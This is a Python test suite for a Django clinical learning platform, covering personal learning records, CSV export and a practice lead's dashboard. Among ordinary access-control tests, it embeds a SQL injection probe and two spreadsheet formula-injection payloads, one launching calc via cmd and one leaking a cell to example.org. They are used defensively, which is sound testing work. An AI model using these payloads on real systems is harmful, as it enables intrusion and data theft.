"""My learning record (page and CSV) and the practice lead dashboard: own data only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from learning import services
from learning.record_csv import COLUMNS
from learning.selectors.learner import ModuleStatus
from learning.selectors.practice import practice_staff_progress
from practices.models import Arm

from .factories import build_module, check_id, check_option_ids, learner, practice, sections_of

pytestmark = pytest.mark.django_db

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
TODAY = "2026-03-10 12:00:00+00:00"


def complete(member, module, at):
    for i, section in enumerate(sections_of(module)):
        services.record_access(membership=member, module=module, section=section, at=at + timedelta(minutes=i))


@pytest.fixture
def modules():
    return build_module(slug="team", sections=[(1, 0)] * 4), build_module(slug="in-depth", kind="in_depth", sections=[(1, 1), (1, 0)])


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@time_machine.travel(TODAY, tick=False)
def test_the_record_shows_the_learners_own_modules(client, modules):
    team, in_depth = modules
    me, someone = learner(first_name="Me"), learner(first_name="Someone")
    complete(me, team, T0)
    services.record_access(membership=me, module=team, at=T0 + timedelta(hours=2))
    quiz = sections_of(in_depth)[0]
    services.record_access(membership=me, module=in_depth, section=quiz, at=T0 + timedelta(days=1))
    services.record_knowledge_check_attempt(
        membership=me, section=quiz, block_id=check_id(quiz), selected_option_ids=check_option_ids(quiz, correct=False),
        at=T0 + timedelta(days=1, minutes=2),
    )
    complete(someone, in_depth, T0)
    client.force_login(me.user)
    html = client.get("/learning/record/").content.decode()
    team_part, in_depth_part = html.split('<h2 class="nhsuk-heading-m">Module in-depth</h2>')
    assert "Completed" in team_part
    assert "2 March 2026, 09:03 (version 1)" in team_part
    assert "2 (5 page views)" in team_part
    assert "In progress 50%" in in_depth_part
    assert "1 (0 correct)" in in_depth_part
    assert "Certificates" in html


@time_machine.travel(TODAY, tick=False)
def test_the_csv_has_one_row_per_own_event_with_utc_times(client, modules):
    team, in_depth = modules
    me, someone = learner(role="hca"), learner()
    complete(me, team, T0)
    complete(someone, team, T0)
    complete(someone, in_depth, T0)
    client.force_login(me.user)
    response = client.get("/learning/record.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="learning-record-2026-03-10.csv"'
    rows = csv_rows(response)
    assert list(rows[0]) == [name for name, _ in COLUMNS]
    # Four section views and the completion: nobody else's events.
    assert [row["event_type"] for row in rows] == ["section_view"] * 4 + ["completion"]
    assert {row["module_slug"] for row in rows} == {"team"}
    assert rows[0]["occurred_at_utc"] == "2026-03-02T09:00:00Z"
    assert rows[0]["role"] == "Healthcare assistant (HCA)"
    assert rows[0]["practice_ods_code"] == me.practice.ods_code
    assert rows[-1]["detail"] == '{"cycle": 1, "engagement_percent": "100.00"}'


def test_the_record_needs_sign_in(client):
    for url in ("/learning/record/", "/learning/record.csv"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


# --- Practice lead dashboard ------------------------------------------------------------------


@pytest.fixture
def practices_with_staff(modules):
    team, in_depth = modules
    mine, theirs = practice(name="Riverside Surgery"), practice(name="Hillview Practice")
    lead = learner(practice_=mine, role="practice_manager", is_lead=True, first_name="Lena", last_name="Lead")
    gp = learner(practice_=mine, role="gp", first_name="Gita", last_name="Gp")
    nurse = learner(practice_=mine, role="practice_nurse", first_name="Nia", last_name="Nurse")
    other = learner(practice_=theirs, role="gp", first_name="Otto", last_name="Outsider")
    other_lead = learner(practice_=theirs, role="gp", is_lead=True, first_name="Olga", last_name="Otherlead")
    complete(gp, team, T0)
    services.record_access(membership=nurse, module=team, section=sections_of(team)[0], at=T0)
    complete(other, team, T0)
    return {"team": team, "in_depth": in_depth, "mine": mine, "theirs": theirs, "lead": lead, "gp": gp,
            "nurse": nurse, "other": other, "other_lead": other_lead}


@time_machine.travel(TODAY, tick=False)
def test_a_lead_sees_their_own_practice_only(client, practices_with_staff):
    s = practices_with_staff
    client.force_login(s["lead"].user)
    response = client.get("/practice/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Riverside Surgery" in html
    assert "1 of 3</span> staff completed Module team" in html
    assert "0 of 3</span> staff completed Module in-depth" in html
    assert "Gita Gp" in html
    assert "Nia Nurse" in html
    assert "In progress 25%" in html
    assert "on 2 March 2026" in html
    for name in ("Otto Outsider", "Olga Otherlead", "Hillview"):
        assert name not in html
    # Nothing in the query string reaches another practice.
    html = client.get(f"/practice/?practice={s['theirs'].pk}&practice_id={s['theirs'].pk}").content.decode()
    assert "Otto Outsider" not in html


@time_machine.travel(TODAY, tick=False)
def test_the_role_filter_narrows_within_the_practice_and_rejects_unknown_roles(client, practices_with_staff):
    s = practices_with_staff
    client.force_login(s["lead"].user)
    html = client.get("/practice/?role=gp").content.decode()
    assert "Gita Gp" in html
    assert "Nia Nurse" not in html
    assert "Otto Outsider" not in html
    assert "1 of 1</span> staff completed Module team" in html
    response = client.get("/practice/?role=everyone' OR 1=1")
    assert response.status_code == 400
    html = response.content.decode()
    assert "Choose a role from the list." in html
    assert "<title>Error: " in html
    assert "Otto Outsider" not in html


@time_machine.travel(TODAY, tick=False)
def test_non_leads_get_403_whatever_they_ask_for(client, practices_with_staff):
    s = practices_with_staff
    for member in (s["gp"], s["other"]):
        client.force_login(member.user)
        for url in ("/practice/", "/practice/?role=gp", f"/practice/?practice={s['mine'].pk}"):
            response = client.get(url)
            assert response.status_code == 403
            assert "Nia Nurse" not in response.content.decode()
    # A lead whose membership has ended is no longer a lead.
    s["lead"].ended_on = date(2026, 3, 1)
    s["lead"].save()
    client.force_login(s["lead"].user)
    assert client.get("/practice/").status_code == 403
    client.logout()
    assert client.get("/practice/").status_code == 302


@time_machine.travel(TODAY, tick=False)
def test_completions_recorded_at_another_practice_are_not_shown(client, modules):
    team, _ = modules
    before, now = practice(name="Old Practice"), practice(name="New Practice")
    mover = learner(practice_=before, role="gp", first_name="Mo", last_name="Mover")
    complete(mover, team, T0)
    mover.ended_on = date(2026, 3, 5)
    mover.save()
    from practices.models import Membership

    Membership.objects.create(user=mover.user, practice=now, role="gp", started_on=date(2026, 3, 5))
    progress = practice_staff_progress(now, on=date(2026, 3, 10))
    (row,) = progress.rows
    assert row.name == "Mo Mover"
    assert row.cells[0].status == ModuleStatus.NOT_STARTED
    assert practice_staff_progress(before, on=date(2026, 3, 10)).rows == ()


@time_machine.travel(TODAY, tick=False)
def test_a_control_arm_lead_sees_an_explanation(client, modules):
    lead = learner(practice_=practice(arm=Arm.CONTROL), is_lead=True)
    client.force_login(lead.user)
    html = client.get("/practice/").content.decode()
    assert "usual-care arm" in html


@time_machine.travel(TODAY, tick=False)
def test_the_dashboard_runs_the_same_queries_for_3_or_30_staff(client, modules):
    team, in_depth = modules
    client.get("/")  # the page shell's cached links (the module list's address) are warm, as on a running site
    counts = []
    for size in (3, 30):
        home = practice()
        lead = learner(practice_=home, is_lead=True)
        for i in range(size - 1):
            member = learner(practice_=home, role="gp" if i % 2 else "hca")
            complete(member, team, T0 + timedelta(hours=i))
            services.record_access(membership=member, module=in_depth, at=T0)
        client.force_login(lead.user)
        with CaptureQueriesContext(connection) as queries:
            assert client.get("/practice/").status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
    assert counts[0] <= 12


@time_machine.travel(TODAY, tick=False)
def test_the_csv_never_hands_a_spreadsheet_a_formula(client, modules):
    team, _ = modules
    from modules.models import ModulePage

    ModulePage.objects.filter(pk=team.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    me = learner(practice_=practice(name='=HYPERLINK("https://example.org/?x="&A1)'))
    complete(me, team, T0)
    client.force_login(me.user)
    rows = csv_rows(client.get("/learning/record.csv"))
    assert {row["module"] for row in rows} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert {row["practice"] for row in rows} == {"'=HYPERLINK(\"https://example.org/?x=\"&A1)"}
    # Numbers stay numbers.
    assert rows[0]["module_version"] == "1"


@time_machine.travel(TODAY, tick=False)
def test_a_module_the_practice_used_stays_on_the_dashboard_after_it_is_unpublished(client, modules):
    team, in_depth = modules
    lead = learner(is_lead=True, first_name="Lee", last_name="Lead")
    complete(lead, team, T0)
    other = practice(name="Other Practice")
    learner(practice_=other, is_lead=True)
    team.refresh_from_db()
    team.unpublish()

    progress = practice_staff_progress(lead.practice)
    assert [module.pk for module in progress.modules] == [team.pk, in_depth.pk]
    assert progress.rows[0].cells[0].status == ModuleStatus.COMPLETED
    client.force_login(lead.user)
    assert "(no longer published)" in client.get("/practice/").content.decode()
    # A practice with no records in it does not see it.
    assert [module.pk for module in practice_staff_progress(other).modules] == [in_depth.pk]
